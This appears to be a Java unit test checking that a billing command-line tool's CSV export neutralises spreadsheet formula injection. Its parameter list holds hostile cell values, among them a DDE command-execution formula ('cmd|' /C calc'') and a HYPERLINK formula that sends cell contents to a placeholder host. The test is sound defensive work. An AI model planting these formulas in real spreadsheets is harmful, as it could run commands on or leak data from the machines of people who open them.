package dev.yourbrief.cli;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is written for a spreadsheet is words and numbers there, whatever a bill's words hold. */
class SpreadsheetTest {

  @TempDir Path temp;

  /** A bill whose model, project and file are called this. */
  private Path bill(String name) throws IOException {
    String cell = '"' + name.replace("\"", "\"\"") + '"';
    StringBuilder text =
        new StringBuilder(
            "usage_date_utc,model,workspace,api_key,usage_type,context_window,token_type,cost_usd,"
                + "list_price_usd,cost_type,inference_geo,speed\n");
    for (int day = 1; day <= 28; day++) {
      text.append("2026-10-%02d,".formatted(day))
          .append(cell)
          .append(',')
          .append(cell)
          .append(",k,message,≤ 200k,output,10.00,10.00,token,global,\n");
    }
    String safe = name.replaceAll("[/\\x00\\p{Cc}]", "_");
    return Files.writeString(temp.resolve(safe + ".csv"), text.toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://example.org/?\"&A1,\"see\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "\",=1+1,\"",
        "two\n=lines",
      })
  void noCellIsAFormula(String attack) throws IOException {
    Path bill = bill(attack);
    for (List<String> flags :
        List.of(
            List.of("--csv"),
            List.of("--csv", "--traffic"),
            List.of("--csv", "--explain", "total"))) {
      Object[] line =
          Stream.concat(Stream.concat(Stream.of("bill"), flags.stream()), Stream.of(bill))
              .toArray();
      Shell shell = Shell.run(line);
      assertThat(shell.out()).as(shell.words()).isNotBlank();
      List<CsvRecord> rows = CsvReader.builder().ofCsvRecord(shell.out()).stream().toList();
      assertThat(rows.stream().map(CsvRecord::getFieldCount).distinct().toList()).hasSize(1);
      assertThat(rows.stream().flatMap(row -> row.getFields().stream()))
          .as("%s", flags)
          .noneMatch(cell -> cell.matches("(?s)[=+\\-@＝＋－＠\\t\\r\\n].*") && !isNumber(cell));
    }
  }

  @ParameterizedTest
  @CsvSource({"gpt-6-sol,gpt-6-sol", "'=1+1',\"'=1+1\"", "-1,\"'-1\""})
  void wordsKeepTheirLetters(String words, String cell) {
    assertThat(BillCsv.safe(words)).isEqualTo(cell.replace("\"", ""));
  }

  private static boolean isNumber(String cell) {
    return cell.matches("-?\\d+(\\.\\d+)?");
  }
}
